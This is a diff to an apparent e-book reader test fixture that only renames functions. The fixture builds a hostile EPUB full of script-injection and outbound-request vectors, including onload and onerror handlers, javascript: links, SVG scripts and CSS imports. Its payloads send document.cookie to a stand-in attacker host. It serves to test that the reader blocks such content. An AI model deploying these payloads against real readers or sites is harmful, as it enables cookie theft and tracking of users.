@@ -2,7 +2,7 @@ import { buildEpub, navigation } from '../fixtures/epub.ts'
 import { putBook } from './bookshelf.ts'
 
 /** What a script of the book does once it runs: reads data, leaves a mark, sends a request and navigates away. */
-function loot(evil: string, way: string): string {
+function payload(evil: string, way: string): string {
   return [
     `new Image().src='${evil}/ran-${way}?'+encodeURIComponent(document.cookie)`,
     `try{localStorage.setItem('stolen','${way}')}catch(e){}`,
@@ -12,8 +12,8 @@ function loot(evil: string, way: string): string {
 }
 
 /** Ways to run a script without interaction. Each is well-formed, so that all fit in one document. */
-function thatRun(evil: string): readonly string[] {
-  const run = (way: string) => loot(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
+function scriptAttempts(evil: string): readonly string[] {
+  const run = (way: string) => payload(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
   const inside = (way: string) => `&lt;script&gt;${run(way)}&lt;/script&gt;`
   return [
     `<script>${run('script')}</script>`,
@@ -36,7 +36,7 @@ function thatRun(evil: string): readonly string[] {
 }
 
 /** Ways to send requests without scripts. */
-function thatCallOut(evil: string): readonly string[] {
+function requestAttempts(evil: string): readonly string[] {
   return [
     `<img src="${evil}/img" alt=""/>`,
     `<img src="trap.svg" alt=""/>`,
@@ -71,8 +71,8 @@ h1 { background: url(${evil}/style) } h1::before { content: url(${evil}/content)
 }
 
 /** Content that needs a click. */
-function thatWait(evil: string): string {
-  const run = (way: string) => loot(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
+function clickTraps(evil: string): string {
+  const run = (way: string) => payload(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
   return `<div style="text-align: center"><p><a href="javascript:${run('link')}">Press me</a></p>
 <p><a href="data:text/html,&lt;script&gt;${run('data-link')}&lt;/script&gt;">Open me</a></p>
 <p onclick="${run('onclick')}">Touch me</p>
@@ -82,13 +82,13 @@ function thatWait(evil: string): string {
 }
 
 function document(evil: string, title: string): string {
-  const traps = [...thatRun(evil), ...thatCallOut(evil)].map((trap) => `<div>${trap}</div>`).join('\n')
+  const traps = [...scriptAttempts(evil), ...requestAttempts(evil)].map((trap) => `<div>${trap}</div>`).join('\n')
   return `<?xml version="1.0" encoding="UTF-8"?>
 <html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>${title}</title>
 <meta name="viewport" content="width=600, height=800"/><link rel="stylesheet" href="trap.css"/>${head(evil)}</head>
-<body background="${evil}/body" onload="${loot(evil, 'onload').replaceAll('&', '&amp;')}"><h1>${title}</h1>${thatWait(evil)}
+<body background="${evil}/body" onload="${payload(evil, 'onload').replaceAll('&', '&amp;')}"><h1>${title}</h1>${clickTraps(evil)}
 ${traps}
-<aside epub:type="footnote" id="n"><p>A bad note.<img src="${evil}/note" alt="" onerror="${loot(evil, 'note').replaceAll('&', '&amp;')}"/></p></aside>
+<aside epub:type="footnote" id="n"><p>A bad note.<img src="${evil}/note" alt="" onerror="${payload(evil, 'note').replaceAll('&', '&amp;')}"/></p></aside>
 </body></html>`
 }
 
@@ -102,8 +102,8 @@ export function hostileDocument(evil: string): string {
 
 /** A book of nothing else: as reflowable text, as fixed layout, and as SVG. */
 export function putHostileBook(shelf: string, evil: string): void {
-  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${loot(evil, 'drawing').replaceAll('&', '&amp;')}">
-<script>${loot(evil, 'drawing-script').replaceAll('&', '&amp;')}</script><image href="${evil}/drawing" width="9" height="9"/></svg>`
+  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${payload(evil, 'drawing').replaceAll('&', '&amp;')}">
+<script>${payload(evil, 'drawing-script').replaceAll('&', '&amp;')}</script><image href="${evil}/drawing" width="9" height="9"/></svg>`
   const book = buildEpub({
     bareMetadata: true,
     metadata: '<dc:title>The Trap</dc:title><dc:language>en</dc:language>',
@@ -113,7 +113,7 @@ export function putHostileBook(shelf: string, evil: string): void {
       { name: 'stands.xhtml', data: document(evil, 'Stands'), spineProperties: 'rendition:layout-pre-paginated' },
       { name: 'trap.svg', data: drawing, spine: true },
       { name: 'trap.css', data: `@import "${evil}/own.css"; h1 { cursor: url(${evil}/cursor), auto }` },
-      { name: 'run.js', data: loot(evil, 'own-file') },
+      { name: 'run.js', data: payload(evil, 'own-file') },
     ],
   })
   putBook(shelf, 'The Trap/The Trap.epub', book)
